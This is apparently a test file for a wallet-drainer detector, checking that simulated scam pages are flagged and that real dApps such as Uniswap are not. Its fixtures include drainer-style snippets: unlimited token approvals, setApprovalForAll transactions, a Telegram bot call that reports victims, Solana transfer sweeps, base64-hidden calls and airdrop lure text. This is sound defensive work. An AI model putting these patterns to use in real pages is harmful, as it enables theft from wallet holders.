/** Wallet drainers (detection.md §2.1, §6.1): kit fingerprints, drain requests and their guard. */
import { encodeFunctionData, maxUint256, parseAbi, toFunctionSelector } from 'viem';
import { describe, expect, it } from 'vitest';

import { analyzeWalletDrainer } from '../../src/engine/page/analyzers/wallet-drainer.js';
import type { PageFinding } from '../../src/engine/page/page-finding.js';
import { BENIGN_FIXTURES, MALICIOUS_FIXTURES, pageFixture } from '../helpers/page-fixtures.js';
import { fixtureInput, htmlView, urlContext } from '../helpers/page-view-context.js';

/** An unknown `.com` site: not reputable, no risky infrastructure (domain age unknown). */
const UNKNOWN_SITE = 'https://meadowlark-labs.com/';

function drainerFindings(html: string, url = UNKNOWN_SITE, fresh: boolean | null = null) {
  return analyzeWalletDrainer(htmlView(html), urlContext(url, fresh));
}

function levels(findings: readonly PageFinding[]): string[] {
  return findings.map((f) => `${f.level}:${f.id}`);
}

const ERC20 = parseAbi([
  'function approve(address spender, uint256 amount)',
  'function setApprovalForAll(address operator, bool approved)',
]);
const SPENDER = '0x3f9c1b5e2a70d84f6c9b0e1d2a3b4c5d6e7f8091';

/** The Permit2 signature request of a swap front end (as on app.uniswap.org). */
const PERMIT2_SWAP = `<script>
  var typed = { types: { PermitSingle: [{ name: "details", type: "PermitDetails" }] },
    primaryType: "PermitSingle",
    domain: { name: "Permit2", chainId: 1, verifyingContract: "0x000000000022D473030F116dDEE9F6B43aC78BA3" } };
  window.ethereum.request({ method: "eth_signTypedData_v4", params: [account, JSON.stringify(typed)] });
</script>`;

describe('wallet-drainer fixtures', () => {
  const cases: Record<string, { kit: string | null; request: string; brand: string | null }> = {
    'wallet-drainer-airdrop-monkey': {
      kit: 'Monkey Drainer: chain-common.js + chain-bundle.js',
      request: 'setApprovalForAll + unlimited approve + Seaport order',
      brand: 'Arbitrum',
    },
    'wallet-drainer-permit2-obfuscated': {
      kit: 'Iil1ililIl1iIl1ill1Ilii',
      request: 'PermitBatchTransferFrom signature',
      brand: 'Uniswap',
    },
    'wallet-drainer-solana-jup': {
      kit: null,
      request: 'signAllTransactions + createSetAuthorityInstruction',
      brand: 'Jupiter',
    },
    'wallet-drainer-collabland-permit2': {
      kit: 'collectionInfo',
      request: 'PermitSingle signature',
      brand: 'Collab.Land',
    },
  };

  it('covers every wallet-drainer fixture of the corpus', () => {
    const ids = MALICIOUS_FIXTURES.filter((f) => f.category === 'wallet_drainer').map((f) => f.id);
    expect(ids.sort()).toEqual(Object.keys(cases).sort());
  });

  for (const [id, expected] of Object.entries(cases)) {
    it(`${id}: danger with page-derived evidence and the expected types`, () => {
      const fixture = pageFixture(id);
      const { view, context } = fixtureInput(fixture);
      const findings = analyzeWalletDrainer(view, context);
      const kit = findings.find((f) => f.id === 'drainer_kit');
      const request = findings.find((f) => f.id === 'drainer_request');
      if (expected.kit === null) expect(kit).toBeUndefined();
      else {
        expect(kit?.level).toBe('danger');
        expect(kit?.evidence).toContain(expected.kit);
      }
      expect(request?.level).toBe('danger');
      expect(request?.evidence).toContain(expected.request);
      for (const finding of findings) {
        expect(finding.evidence).not.toBe('');
        expect(finding.evidence.length).toBeLessThanOrEqual(120);
        expect(finding.brand?.name ?? null).toBe(expected.brand);
      }

      const types = new Set(findings.flatMap((f) => f.threatTypes));
      const signals = new Set(findings.flatMap((f) => f.signals));
      for (const type of [
        'wallet_drainer',
        'crypto_scam',
        'crypto_airdrop_scam',
        'brand_impersonation',
      ] as const) {
        expect(types.has(type), type).toBe(fixture.expect.threat_types.includes(type));
      }
      for (const signal of ['wallet_drainer', 'crypto_scam', 'crypto_airdrop_scam'] as const) {
        expect(signals.has(signal), signal).toBe(fixture.expect.signals.includes(signal));
      }
    });
  }
});

describe('wallet-drainer benign pages', () => {
  for (const fixture of BENIGN_FIXTURES) {
    it(`${fixture.id}: no danger or caution`, () => {
      const { view, context } = fixtureInput(fixture);
      const loud = analyzeWalletDrainer(view, context).filter((f) => f.level !== 'soft');
      expect(levels(loud)).toEqual([]);
    });
  }

  it('the real dApps (Permit2, setApprovalForAll, approve, Solana swap) produce nothing at all', () => {
    for (const id of [
      'benign-uniswap-app',
      'benign-opensea-list',
      'benign-aave-app',
      'benign-jupiter-swap',
      'benign-metamask-download',
    ]) {
      const { view, context } = fixtureInput(pageFixture(id));
      expect(analyzeWalletDrainer(view, context), id).toEqual([]);
    }
  });
});

describe('wallet-drainer requests and the §2.1 guard', () => {
  it('the selectors the rules use are the Keccak-256 selectors of the ERC functions', () => {
    expect(toFunctionSelector('approve(address,uint256)')).toBe('0x095ea7b3');
    expect(toFunctionSelector('setApprovalForAll(address,bool)')).toBe('0xa22cb465');
    expect(toFunctionSelector('increaseAllowance(address,uint256)')).toBe('0x39509351');
    expect(
      toFunctionSelector('permit(address,address,uint256,uint256,uint8,bytes32,bytes32)'),
    ).toBe('0xd505accf');
  });

  it('a Permit2 request on an unknown site: soft; fresh, impersonating or luring: danger', () => {
    expect(levels(drainerFindings(PERMIT2_SWAP))).toEqual(['soft:drainer_request']);
    expect(levels(drainerFindings(PERMIT2_SWAP, UNKNOWN_SITE, true))).toEqual([
      'danger:drainer_request',
    ]);
    const named = drainerFindings(`<title>Uniswap Interface</title>${PERMIT2_SWAP}`);
    expect(levels(named)).toEqual(['danger:drainer_request']);
    expect(named[0]?.brand?.name).toBe('Uniswap');
    expect(named[0]?.threatTypes).toContain('brand_impersonation');
    const lured = drainerFindings(`<h1>Claim your UNI rewards</h1>${PERMIT2_SWAP}`);
    expect(levels(lured)).toEqual(['danger:drainer_request']);
    expect(lured[0]?.evidence).toContain('lure "claim your"');
    expect(lured[0]?.threatTypes).not.toContain('crypto_airdrop_scam');
  });

  it('the same request on the brand’s own domain is ignored; a kit fingerprint is not', () => {
    const official = 'https://app.uniswap.org/swap';
    expect(drainerFindings(`<title>Uniswap Interface</title>${PERMIT2_SWAP}`, official)).toEqual(
      [],
    );
    const compromised = `${PERMIT2_SWAP}<script>var Iil1ililIl1iIl1ill1Ilii = { r: "0x1" };</script>`;
    expect(levels(drainerFindings(compromised, official))).toEqual(['danger:drainer_kit']);
  });

  it('reporting to Telegram or a hard-coded receiver makes an uncorroborated request caution', () => {
    const data = encodeFunctionData({
      abi: ERC20,
      functionName: 'setApprovalForAll',
      args: [SPENDER, true],
    });
    const base = `<script>ethereum.request({ method: "eth_sendTransaction", params: [{ data: "${data}" }] });</script>`;
    expect(levels(drainerFindings(base))).toEqual(['soft:drainer_request']);
    const reported = `${base}<script>fetch("https://api.telegram.org/bot" + token + "/sendMessage")</script>`;
    const findings = drainerFindings(reported);
    expect(levels(findings)).toEqual(['caution:drainer_request']);
    expect(findings[0]?.evidence).toBe('setApprovalForAll with Telegram reporting');
    const receiver = `${base}<script>var receiver = "${SPENDER}";</script>`;
    expect(levels(drainerFindings(receiver))).toEqual(['caution:drainer_request']);
  });

  it('approve counts only with an unlimited amount', () => {
    const exact = encodeFunctionData({
      abi: ERC20,
      functionName: 'approve',
      args: [SPENDER, 10n ** 6n],
    });
    const unlimited = encodeFunctionData({
      abi: ERC20,
      functionName: 'approve',
      args: [SPENDER, maxUint256],
    });
    const page = (data: string) => `<h1>Claim now</h1><script>var data = "${data}";</script>`;
    expect(drainerFindings(page(exact))).toEqual([]);
    const findings = drainerFindings(page(unlimited));
    expect(findings[0]?.evidence).toMatch(/^unlimited approve;/);
    const call = `<h1>Claim now</h1><script>token.approve(spender, ethers.constants.MaxUint256)</script>`;
    expect(drainerFindings(call)[0]?.evidence).toMatch(/^unlimited approve;/);
  });

  it('Solana: signTransaction of a swap is nothing; signAllTransactions with transfers is a sweep', () => {
    const swap = `<script>var signed = await wallet.signTransaction(tx); connection.sendRawTransaction(signed.serialize());</script>`;
    expect(drainerFindings(swap)).toEqual([]);
    const sweep = `<title>Airdrop</title><script>txs.push(new Transaction().add(SystemProgram.transfer({ toPubkey: dest })));
      await provider.signAllTransactions(txs);</script>`;
    const findings = drainerFindings(sweep);
    expect(levels(findings)).toEqual(['danger:drainer_request']);
    expect(findings[0]?.evidence).toMatch(/^signAllTransactions \+ SystemProgram\.transfer/);
    expect(findings[0]?.threatTypes).toContain('crypto_airdrop_scam');
  });

  it('finds requests hidden in base64 strings (decoded strings)', () => {
    const hidden = Buffer.from('setApprovalForAll').toString('base64');
    const findings = drainerFindings(
      `<h1>Free mint</h1><script>var m = atob("${hidden}");</script>`,
    );
    expect(levels(findings)).toEqual(['danger:drainer_request']);
    expect(findings[0]?.evidence).toMatch(/^setApprovalForAll;/);
  });
});

describe('wallet-drainer kit fingerprints', () => {
  it('Monkey needs both of its scripts', () => {
    const both =
      '<script src="/js/chain-common.js"></script><script src="/js/chain-bundle.js"></script>';
    expect(levels(drainerFindings(both))).toEqual(['danger:drainer_kit']);
    expect(drainerFindings('<script src="/js/chain-common.js"></script>')).toEqual([]);
  });

  it('settings.js family: collectionInfo and SIWE copy in one small script, not in a big bundle', () => {
    const config = `var collectionInfo = { name: "x" };
      var msg = "This request will not trigger a blockchain transaction or cost any gas fees.";`;
    expect(levels(drainerFindings(`<script>${config}</script>`))).toEqual(['danger:drainer_kit']);
    const bundle = `<script>${config}${' var filler = 1;'.repeat(2_000)}</script>`;
    expect(drainerFindings(bundle)).toEqual([]);
  });

  it('Asli pre-sale copy needs both sentences', () => {
    const both = '<h1>PRE-SALE IS LIVE</h1><p>All other links are FAKE</p>';
    expect(levels(drainerFindings(both))).toEqual(['danger:drainer_kit']);
    expect(drainerFindings('<p>All other links are FAKE</p>')).toEqual([]);
  });

  it('"Rusc" send helpers count only with its config or loader', () => {
    const helpers =
      '<script>function sendEth(){} function sendToken(){} function sendNFT(){}</script>';
    expect(drainerFindings(helpers)).toEqual([]);
    expect(levels(drainerFindings(`${helpers}<script>var tgConfig = {};</script>`))).toEqual([
      'danger:drainer_kit',
    ]);
  });
});

describe('airdrop lure without a request', () => {
  const lure = `<h1>Check eligibility and claim your $XYZ airdrop</h1><button>Connect Wallet</button>`;

  it('caution crypto_airdrop_scam on risky infrastructure, soft elsewhere, nothing when reputable', () => {
    const risky = drainerFindings(lure, 'https://xyz-airdrop.top/');
    expect(levels(risky)).toEqual(['caution:airdrop_claim_lure']);
    expect(risky[0]?.threatTypes).toEqual(['crypto_scam', 'crypto_airdrop_scam']);
    expect(risky[0]?.signals).toEqual(['crypto_scam', 'crypto_airdrop_scam']);
    expect(risky[0]?.evidence).toBe('wallet connect + "check eligibility"');
    expect(levels(drainerFindings(lure))).toEqual(['soft:airdrop_claim_lure']);
    expect(drainerFindings(lure, 'https://www.coindesk.com/')).toEqual([]);
  });

  it('needs a wallet connect: an airdrop article without one is nothing', () => {
    expect(
      drainerFindings(
        '<h1>How to check eligibility for an airdrop</h1>',
        'https://xyz-airdrop.top/',
      ),
    ).toEqual([]);
  });
});
